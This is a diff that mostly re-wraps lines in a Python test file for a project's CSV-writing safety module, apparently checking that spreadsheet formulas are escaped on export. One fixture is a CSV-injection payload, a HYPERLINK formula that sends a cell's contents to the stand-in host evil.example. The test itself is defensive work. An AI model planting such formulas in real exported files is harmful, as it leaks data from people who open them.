@@ -13,7 +13,18 @@ from hypothesis import strategies as some
 from twigma.core.safety import spreadsheet
 
 ROOT = Path(__file__).resolve().parents[3]
-RUN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")  # first characters of what spreadsheets run
+RUN = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+)  # first characters of what spreadsheets run
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"open; or not")'
 FORMULAS = [
     LINK,
@@ -48,19 +59,30 @@ def is_run(cell: str) -> bool:
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_formulas_are_text_and_read_back(formula: str, tmp_path: Path) -> None:
-    spreadsheet.write_rows(tmp_path / "a.csv", ["head", formula], [["x", formula], [formula, None]])
+    spreadsheet.write_rows(
+        tmp_path / "a.csv", ["head", formula], [["x", formula], [formula, None]]
+    )
     assert not any(is_run(cell) for row in cells(tmp_path / "a.csv") for cell in row)
-    assert spreadsheet.read_rows(tmp_path / "a.csv") == [["head", formula], ["x", formula], [formula, ""]]
+    assert spreadsheet.read_rows(tmp_path / "a.csv") == [
+        ["head", formula],
+        ["x", formula],
+        [formula, ""],
+    ]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_frames_and_tables_too(formula: str, tmp_path: Path) -> None:
-    frame = pd.DataFrame({"text": [formula, "plain"], formula: [-1.5, 2.0], "n": [-1, 1]})
+    frame = pd.DataFrame(
+        {"text": [formula, "plain"], formula: [-1.5, 2.0], "n": [-1, 1]}
+    )
     spreadsheet.write_frame(tmp_path / "frame.csv", frame)
     spreadsheet.write_table(tmp_path / "table.csv", pa.Table.from_pandas(frame))
     for name in ("frame.csv", "table.csv"):
         assert not any(is_run(cell) for row in cells(tmp_path / name) for cell in row)
-        assert spreadsheet.read_rows(tmp_path / name)[1:] == [[formula, "-1.5", "-1"], ["plain", "2.0", "1"]]
+        assert spreadsheet.read_rows(tmp_path / name)[1:] == [
+            [formula, "-1.5", "-1"],
+            ["plain", "2.0", "1"],
+        ]
 
 
 def test_numbers_stay_numbers() -> None:
@@ -79,7 +101,11 @@ def test_what_is_written_reads_back_however_often(text: str) -> None:
 
 def test_files_are_the_same_however_often_they_are_written(tmp_path: Path) -> None:
     path = tmp_path / "a.csv"
-    spreadsheet.write_rows(path, ["value"], [[formula] for formula in [*FORMULAS, "'=1", "''=1", "'tis", "'"]])
+    spreadsheet.write_rows(
+        path,
+        ["value"],
+        [[formula] for formula in [*FORMULAS, "'=1", "''=1", "'tis", "'"]],
+    )
     before = path.read_bytes()
     for _ in range(3):
         head, *rows = spreadsheet.read_rows(path)
@@ -88,7 +114,9 @@ def test_files_are_the_same_however_often_they_are_written(tmp_path: Path) -> No
 
 
 @pytest.mark.parametrize("separator", [";", "\t"])
-def test_a_spreadsheet_with_another_separator_finds_no_formula_inside_a_cell(separator: str, tmp_path: Path) -> None:
+def test_a_spreadsheet_with_another_separator_finds_no_formula_inside_a_cell(
+    separator: str, tmp_path: Path
+) -> None:
     text = f"harmless{separator}=1+1"
     spreadsheet.write_rows(tmp_path / "a.csv", ["a"], [[text]])
     spreadsheet.write_frame(tmp_path / "b.csv", pd.DataFrame({"a": [text]}))
@@ -98,10 +126,15 @@ def test_a_spreadsheet_with_another_separator_finds_no_formula_inside_a_cell(sep
 
 def _modules() -> list[Path]:
     rooms = ("rehydrate", "builder", "analysis", "demo", "cli")
-    return [*ROOT.glob("*.py"), *(path for room in rooms for path in (ROOT / room).rglob("*.py"))]
+    return [
+        *ROOT.glob("*.py"),
+        *(path for room in rooms for path in (ROOT / room).rglob("*.py")),
+    ]
 
 
-@pytest.mark.parametrize("path", _modules(), ids=lambda path: str(path.relative_to(ROOT)))
+@pytest.mark.parametrize(
+    "path", _modules(), ids=lambda path: str(path.relative_to(ROOT))
+)
 def test_every_csv_is_written_here(path: Path) -> None:
     """No other module calls a writer of CSV, or opens a file of that name to write text into."""
     if path.name == "spreadsheet.py":
@@ -109,7 +142,11 @@ def test_every_csv_is_written_here(path: Path) -> None:
     for node in ast.walk(ast.parse(path.read_text("utf-8"))):
         if isinstance(node, ast.Attribute) and node.attr in WRITERS:
             owner = node.value.id if isinstance(node.value, ast.Name) else ""
-            assert node.attr == "writer" and owner != "csv", f"{path}:{node.lineno} writes a CSV: use spreadsheet.py"
+            assert node.attr == "writer" and owner != "csv", (
+                f"{path}:{node.lineno} writes a CSV: use spreadsheet.py"
+            )
         if isinstance(node, ast.With):
             opened = " ".join(ast.unparse(item.context_expr) for item in node.items)
-            assert not ("atomic" in opened and ".csv" in opened), f"{path}:{node.lineno}: use spreadsheet.py"
+            assert not ("atomic" in opened and ".csv" in opened), (
+                f"{path}:{node.lineno}: use spreadsheet.py"
+            )
